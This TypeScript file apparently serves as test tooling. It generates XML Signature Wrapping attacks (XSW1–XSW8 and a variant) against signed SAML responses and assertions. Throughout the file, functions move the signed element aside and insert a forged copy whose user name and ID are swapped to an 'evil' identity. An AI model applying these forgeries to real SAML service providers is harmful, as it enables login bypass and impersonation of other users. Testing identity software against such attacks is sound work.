/**
 * The eight known signature wrapping attacks: a signed element is moved aside and another put in its place. Signed XML
 * is given as text.
 */

const SIGNATURE = /<(?:ds:)?Signature [\s\S]*?<\/(?:ds:)?Signature>/
const ASSERTION = /<saml:Assertion [\s\S]*<\/saml:Assertion>/

const splitSignature = (signed: string, whole: string) => {
  const signature = SIGNATURE.exec(signed)?.[0] ?? ''
  const element = whole === 'assertion' ? (ASSERTION.exec(signed)?.[0] ?? '') : signed
  return { signature, element, bare: element.replace(signature, '') }
}
const EVIL_ID = '_autre-identifiant'
const replaceName = (xml: string, from: string, to: string) => xml.replaceAll(from, to)
const replaceId = (xml: string) => xml.replace(/ ID="[^"]+"/, ` ID="${EVIL_ID}"`)
/** Inserts before the end of an element. */
const insertBeforeEnd = (xml: string, end: string, more: string) => {
  const at = xml.lastIndexOf(end)
  return xml.slice(0, at) + more + xml.slice(at)
}
const ASSERTION_END = '</saml:Assertion>'
const insertIntoSignature = (signature: string, more: string) =>
  insertBeforeEnd(signature, /<\/(?:ds:)?Signature>$/.exec(signature)?.[0] ?? '', `<Object>${more}</Object>`)

type WrappingNames = { own: string; evil: string }

/** For a response signed as a whole. */
export const responseWrappings: Record<string, (signed: string, names: WrappingNames) => string> = {
  XSW1(signed, { own, evil }) {
    const { signature, bare } = splitSignature(signed, 'response')
    return insertBeforeEnd(
      replaceId(replaceName(bare, own, evil)),
      '</samlp:Response>',
      insertIntoSignature(signature, bare),
    )
  },
  XSW2(signed, { own, evil }) {
    const { signature, bare } = splitSignature(signed, 'response')
    return insertBeforeEnd(replaceId(replaceName(bare, own, evil)), '</samlp:Response>', bare + signature)
  },
}

/** For a response whose assertion is signed. */
export const assertionWrappings: Record<string, (signed: string, names: WrappingNames) => string> = {
  XSW3(signed, { own, evil }) {
    const { element, bare } = splitSignature(signed, 'assertion')
    return signed.replace(element, replaceId(replaceName(bare, own, evil)) + element)
  },
  XSW4(signed, { own, evil }) {
    const { element, bare } = splitSignature(signed, 'assertion')
    return signed.replace(element, insertBeforeEnd(replaceId(replaceName(bare, own, evil)), ASSERTION_END, element))
  },
  XSW5(signed, { own, evil }) {
    const { signature, element, bare } = splitSignature(signed, 'assertion')
    return signed.replace(
      element,
      insertBeforeEnd(replaceId(replaceName(bare, own, evil)), ASSERTION_END, signature) + bare,
    )
  },
  XSW6(signed, { own, evil }) {
    const { signature, element, bare } = splitSignature(signed, 'assertion')
    return signed.replace(
      element,
      insertBeforeEnd(replaceId(replaceName(bare, own, evil)), ASSERTION_END, insertIntoSignature(signature, bare)),
    )
  },
  XSW7(signed, { own, evil }) {
    const { element, bare } = splitSignature(signed, 'assertion')
    const put = `<samlp:Extensions>${replaceId(replaceName(bare, own, evil))}</samlp:Extensions>`
    return signed.replace(element, put + element).replace(element, replaceId(replaceName(element, own, evil)))
  },
  XSW8(signed, { own, evil }) {
    const { signature, element, bare } = splitSignature(signed, 'assertion')
    return signed.replace(
      element,
      insertBeforeEnd(replaceId(replaceName(bare, own, evil)), ASSERTION_END, insertIntoSignature(signature, element)),
    )
  },
  'XSW7 by the order alone'(signed, { own, evil }) {
    const { element, bare } = splitSignature(signed, 'assertion')
    return signed.replace(
      element,
      `<samlp:Extensions>${element}</samlp:Extensions>${replaceId(replaceName(bare, own, evil))}`,
    )
  },
}
